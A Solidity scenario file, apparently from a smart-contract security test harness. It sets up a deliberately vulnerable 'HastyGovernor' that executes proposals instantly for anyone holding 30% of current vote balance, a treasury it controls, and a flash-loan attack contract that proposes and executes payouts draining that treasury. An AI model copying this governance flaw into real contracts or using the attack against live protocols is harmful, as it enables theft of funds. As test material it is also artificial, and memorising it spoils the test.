// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./Common.sol";

/// Who holds three tenths of the votes right now may execute right away.
contract HastyGovernor {
    IERC20 public immutable votes;
    uint256 public count;
    mapping(uint256 => bytes32) public proposals;

    event Proposed(uint256 indexed id, address indexed proposer, address target, bytes data);
    event Executed(uint256 indexed id);
    event Voted(uint256 indexed id, address indexed voter, uint256 weight);

    constructor(IERC20 votes_) {
        votes = votes_;
    }

    function propose(address target, bytes calldata data) external returns (uint256 id) {
        id = ++count;
        proposals[id] = keccak256(abi.encode(target, data));
        emit Proposed(id, msg.sender, target, data);
    }

    function vote(uint256 id) external {
        emit Voted(id, msg.sender, votes.balanceOf(msg.sender));
    }

    function emergencyCommit(uint256 id, address target, bytes calldata data) external {
        require(votes.balanceOf(msg.sender) * 10 >= votes.totalSupply() * 3, "votes");
        require(proposals[id] == keccak256(abi.encode(target, data)), "proposal");
        delete proposals[id];
        (bool ok,) = target.call(data);
        require(ok, "call");
        emit Executed(id);
    }
}

contract Treasury {
    address public immutable governor;
    IERC20 public immutable usd;

    event Paid(address indexed to, uint256 amount);

    constructor(address governor_, IERC20 usd_) {
        (governor, usd) = (governor_, usd_);
    }

    function pay(address to, uint256 amount) external {
        require(msg.sender == governor, "governor");
        usd.transfer(to, amount);
        emit Paid(to, amount);
    }

    function contribute(uint256 amount) external {
        usd.transferFrom(msg.sender, address(this), amount);
    }
}

contract GovernanceFlashScene is Scene {
    Token public usd;
    Token public votes = new Token("VOTE", 18);
    HastyGovernor public hasty;
    Treasury public treasury;

    constructor(Bank b, address t, address s) payable Scene(b, t, s) {
        usd = _usd();
        hasty = new HastyGovernor(IERC20(address(votes)));
        treasury = new Treasury(address(hasty), IERC20(address(usd)));
        usd.mint(address(treasury), 3_000_000e18);
        _protect(address(treasury));
        _protect(address(hasty));
        _loan(IERC20(address(votes)), 4_000_000e18);
        loot0 = IERC20(address(usd));
    }

    function governor() external view override returns (address, address, address) {
        return (address(hasty), address(hasty), address(votes));
    }

    function enrol(address[] calldata users) external override {
        _arm(usd, users, 200_000e18, address(treasury));
        _arm(votes, users, 1_000e18, address(this));
    }

    function menu(address who, uint256 dice) external view override returns (address, uint256, bytes memory) {
        uint256 kind = (dice >> 200) % 4;
        if (kind == 0) {
            bytes memory call = abi.encodeCall(Treasury.pay, (who, _amount(dice, 10e18, 500e18)));
            return (address(hasty), 0, abi.encodeCall(HastyGovernor.propose, (address(treasury), call)));
        }
        if (kind == 1 && hasty.count() > 0) {
            return (address(hasty), 0, abi.encodeCall(HastyGovernor.vote, (1 + dice % hasty.count())));
        }
        if (kind == 2) {
            return (address(votes), 0, abi.encodeCall(Token.transfer, (address(uint160(dice)), votes.balanceOf(who) / 20)));
        }
        return (address(treasury), 0, abi.encodeCall(Treasury.contribute, (_amount(dice, 10e18, 900e18))));
    }
}

contract GovernanceFlashAttack is Attack {
    HastyGovernor private immutable hasty;
    Treasury private immutable treasury;

    constructor(GovernanceFlashScene scene) Attack(scene) {
        (hasty, treasury) = (scene.hasty(), scene.treasury());
    }

    function _act(uint256, uint256 index, uint256 count) internal override {
        uint256 all = loot0.balanceOf(address(treasury));
        bytes memory call = abi.encodeCall(Treasury.pay, (address(this), all / (count - index)));
        uint256 id = hasty.propose(address(treasury), call);
        hasty.emergencyCommit(id, address(treasury), call);
    }
}
